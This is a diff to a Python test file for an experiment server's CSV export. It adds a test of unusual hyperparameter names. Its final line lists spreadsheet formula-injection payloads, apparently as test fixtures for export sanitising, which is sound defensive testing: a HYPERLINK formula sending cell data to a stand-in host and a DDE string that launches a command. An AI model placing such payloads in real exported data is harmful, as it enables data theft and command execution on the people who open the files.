@@ -15,10 +15,13 @@ from typing import Any
 
 import pytest
 
+from rungway_server.cli.enqueue import _assign
 from rungway_server.cli.export import _lines, _write_tables
 from rungway_server.domain.decisions import Assignment, ExperimentState, Lease, Outcome, Release, Report, Result
 from rungway_server.domain.errors import ExperimentExists, InvalidInput, NoTrialsLeft, UnknownExperiment, WrongState
+from rungway_server.domain.paths import spelled
 from rungway_server.service.port import ExperimentRef
+from rungway_server.service.trials import TrialUseCases
 from rungway_server.store.redis import RedisStore
 from rungway_server.store.redis.export_file import BadExport, read_export
 from rungway_server.store.redis.import_file import import_experiment
@@ -244,6 +247,39 @@ async def test_tables(places: tuple[Place, Place], ref: ExperimentRef, tmp_path:
     assert curves == [(view.trial, point.length, repr(point.metric)) for view in views for point in view.curve]
     with (tmp_path / "tables" / "events.csv").open(newline="") as stream:
         assert len(list(csv.DictReader(stream))) == text.count('{"event"')
+
+
+ODD_NAMES = ("learning-rate", "weight.decay", "a=b", "a/b", "batch size", "a`b")
+
+
+async def test_names_of_any_kind_are_queued_and_exported_by_one_spelling(
+    places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path
+) -> None:
+    """What `--set` takes is the name of the column, and no two parameters share one."""
+    here, there = places
+    unit = {"type": "double", "minval": 0, "maxval": 1}
+    kind = {"type": "categorical", "vals": ["a", "b"]}
+    space: dict[str, Any] = {name: unit for name in ODD_NAMES} | {"weight": {"decay": unit}}
+    space |= {"g.h": {"a=b": unit, "kind": kind}, "x": unit | {"when": {"`g.h`.kind": "b"}}}
+    await create(here.store, ref, config("random", space=space, max_trials=4) | {"constraints": ["`a=b` <= 0.9"]})
+    texts = [*map(spelled, ODD_NAMES), "weight.decay", "`g.h`.`a=b`"]
+    values = {text: number / 10 for number, text in enumerate(texts)}
+    hparams: dict[str, Any] = {}
+    _assign(hparams, [*(f"{text}={number}" for text, number in values.items()), "`g.h`.kind=a"])
+    assert hparams["weight.decay"] != hparams["weight"]["decay"]
+    await TrialUseCases(here.store).enqueue(ref, "", hparams)
+    [work] = (await here.store.ask(ref, "", 1, "w")).assignments
+    assert work.hparams == hparams
+    _write_tables(read_export((await here.store.export(ref)).splitlines(keepends=True)), tmp_path)
+    with (tmp_path / "trials.csv").open(newline="") as stream:
+        [row] = csv.DictReader(stream)
+    assert {name.removeprefix("hparams."): row[name] for name in row if name.startswith("hparams.")} == {
+        **{text: str(number) for text, number in values.items()},
+        "`g.h`.kind": "a",
+    }
+    await move(here, ref, there, "copy")
+    copied = await there.store.definition(ExperimentRef(ref.namespace, "copy"))
+    assert copied.config == (await here.store.definition(ref)).config
 
 
 FORMULAS = ['=HYPERLINK("http://h/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]
